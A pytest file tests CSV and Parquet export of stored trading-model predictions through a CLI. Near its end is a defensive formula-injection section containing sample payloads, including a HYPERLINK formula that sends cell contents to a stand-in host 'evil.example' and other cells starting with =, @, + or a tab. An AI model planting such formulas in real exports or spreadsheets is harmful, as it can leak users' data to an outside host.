"""Export of predictions with outcomes: exact columns, CSV and Parquet round trips, filters,
through the CLI on a real SQLite store."""

import pandas as pd
import pytest
import yaml

from app import main
from predictions.export import COLUMNS, export_frame, read_export, select
from runtime.config import load_config
from runtime.orchestrator import Orchestrator
from tests.helpers.outcomes import ladder

T0 = 1_700_000_000_000 - 1_700_000_000_000 % 60_000
M = 60_000
EXPECTED = (
    "id, kind, symbol, timeframe, timestamp, source, model, model_version, run_id, confidence,"
    " direction, action, current_price, target_price, horizon_minutes, resolved_at,"
    " realised_price, hit, error_pct, naive_error_pct"
)


@pytest.fixture
def config_file(tmp_path):
    path = tmp_path / "config.yaml"
    path.write_text(yaml.safe_dump({"data_dir": str(tmp_path / "data")}))
    return path


@pytest.fixture
def stored(config_file):
    orch = Orchestrator(load_config(config_file))
    orch.store.merge_history("IMP", "1m", ladder(T0, 6))
    orch.store_cnn_prediction("IMP", {"timestamp": T0, "confidence": 0.8, "direction": "UP",
        "current_price": 100.0, "target_price": 102.0, "horizon_minutes": 2, "model_version": "3",
        "run_id": "abc"})  # fmt: skip
    orch.store_transformer_prediction("IMP", {"timestamp": T0 + 4 * M, "confidence": 0.6,
        "current_price": 104.0, "predicted_price": 103.0, "horizon_minutes": 30,
        "source": "backtest"})  # fmt: skip
    orch.store_dqn_prediction("IMP", {"timestamp": T0, "confidence": 0.55, "action": "BUY",
                                      "price": 100.0, "source": "training"})  # fmt: skip
    assert orch.outcomes.run_pass() == 2  # the CNN and the DQN; the transformer is pending
    return orch


def test_export_columns_are_exactly_the_documented_ones():
    assert ", ".join(COLUMNS) == EXPECTED


@pytest.mark.parametrize("suffix", [".csv", ".parquet"])
def test_export_round_trip_through_the_cli(config_file, stored, tmp_path, suffix):
    path = tmp_path / f"out{suffix}"
    assert main(["--config", str(config_file), "predictions", "export", str(path)]) == 0
    back = read_export(path)
    assert list(back.columns) == list(COLUMNS)
    expected = export_frame(select(stored.db))
    pd.testing.assert_frame_equal(back, expected)
    by_kind = back.set_index("kind")
    assert by_kind.loc["cnn", "hit"] == True  # noqa: E712 (a pandas boolean)
    # due T0 + 2 min: the candle opening then closes at 102.5; target 102 vs naive 100.
    assert by_kind.loc["cnn", "realised_price"] == 102.5
    assert by_kind.loc["cnn", "error_pct"] == pytest.approx(0.5 / 102.5 * 100)
    assert by_kind.loc["cnn", "naive_error_pct"] == pytest.approx(2.5 / 102.5 * 100)
    assert by_kind.loc["cnn", "resolved_at"] == T0 + 3 * M
    assert by_kind.loc["cnn", "run_id"] == "abc" and by_kind.loc["cnn", "model_version"] == "3"
    assert pd.isna(by_kind.loc["transformer", "hit"])  # pending: empty
    assert by_kind.loc["transformer", "target_price"] == 103.0
    assert by_kind.loc["dqn", "current_price"] == 100.0 and by_kind.loc["dqn", "action"] == "BUY"
    if suffix == ".csv":
        lines = path.read_text().splitlines()
        assert lines[0] == EXPECTED.replace(", ", ",")
        pending = next(line for line in lines if ",transformer," in line)
        assert pending.endswith(",,,,,")  # resolved_at .. naive_error_pct empty


def test_export_filters_by_kind_source_and_time(config_file, stored, tmp_path):
    path = tmp_path / "f.csv"
    args = ["--config", str(config_file), "predictions", "export", str(path)]
    assert main([*args, "--kind", "cnn", "--kind", "transformer", "--source", "live"]) == 0
    assert read_export(path)["kind"].tolist() == ["cnn"]
    start = pd.Timestamp(T0 + 2 * M, unit="ms").strftime("%Y-%m-%d %H:%M")
    assert main([*args, "--from", start, "--symbol", "IMP"]) == 0
    assert read_export(path)["kind"].tolist() == ["transformer"]


def test_a_bad_export_file_name_says_what_is_allowed(config_file, tmp_path, caplog):
    assert main(["--config", str(config_file), "predictions", "export", "out.xlsx"]) == 2
    assert ".csv or .parquet" in caplog.text


def test_filter_none_means_all_and_empty_means_none():
    from predictions.queries import PredictionFilter

    p = {"kind": "cnn", "source": "live", "model_version": "2", "confidence": 0.7}
    assert PredictionFilter.from_dict(None).matches(p)
    assert not PredictionFilter.from_dict({"kinds": []}).matches(p)
    assert PredictionFilter.from_dict({"versions": []}).matches(p)  # no version picked: all
    assert not PredictionFilter.from_dict({"versions": ["1"]}).matches(p)
    assert not PredictionFilter.from_dict({"outcomes": ["hit", "miss"]}).matches(p)
    assert PredictionFilter.from_dict({"outcomes": ["pending"]}).matches(p)
    assert not PredictionFilter.from_dict({"min_confidence": {"cnn": 0.8}}).matches(p)
    assert PredictionFilter.from_dict({"min_confidence": {"dqn": 0.8}}).matches(p)
    keys = {PredictionFilter.from_dict(d).key() for d in (None, {"kinds": []}, {"kinds": ["cnn"]})}
    assert len(keys) == 3


# ---- issue 19, finding 5: formula injection ---------------------------------------------------

EVIL = {"model": '=HYPERLINK("http://evil.example/?"&A1,"x")', "run_id": "@SUM(1+1)",
        "model_version": "-2+3", "id": "+1", "source": "\t=1", "direction": "'=quoted"}  # fmt: skip


def evil_prediction():
    return {"kind": "cnn", "symbol": "IMP", "timeframe": "1m", "timestamp": T0,
            "confidence": 0.8, "current_price": 100.0, "target_price": 102.0,
            "horizon_minutes": 2, **EVIL}  # fmt: skip


def test_no_csv_cell_starts_a_formula_and_reading_gives_the_text_back(tmp_path):
    import csv

    from predictions.export import write_export

    frame = export_frame([evil_prediction()])
    path = write_export(frame, tmp_path / "evil.csv")
    with open(path, encoding="utf-8", newline="") as f:
        header, row = list(csv.reader(f))
    cells = dict(zip(header, row, strict=True))
    for name, cell in cells.items():
        assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), (name, cell)
    assert cells["model"] == "'" + EVIL["model"] and cells["direction"] == "''=quoted"
    pd.testing.assert_frame_equal(read_export(path), frame)


def test_parquet_stays_exact(tmp_path):
    from predictions.export import write_export

    frame = export_frame([evil_prediction()])
    back = read_export(write_export(frame, tmp_path / "evil.parquet"))
    assert back.loc[0, "model"] == EVIL["model"]
    pd.testing.assert_frame_equal(back, frame)


def test_the_panels_csv_download_escapes_too():
    from predictions.export import csv_text

    text = csv_text(export_frame([evil_prediction()]))
    assert "'=HYPERLINK" in text and ",@SUM" not in text and ",=" not in text


@pytest.mark.parametrize("text", ["a\rb", "\r", "x\r\ny", "\n"])
def test_a_line_break_or_carriage_return_in_a_text_cell_reads_back(tmp_path, text):
    from predictions.export import write_export

    frame = export_frame([{**evil_prediction(), "model": text, "run_id": text}])
    pd.testing.assert_frame_equal(read_export(write_export(frame, tmp_path / "cr.csv")), frame)


def test_the_csv_text_is_what_pandas_wrote_before_for_plain_values(stored):
    from predictions.export import csv_text

    frame = export_frame(select(stored.db))
    assert csv_text(frame) == frame.to_csv(index=False)
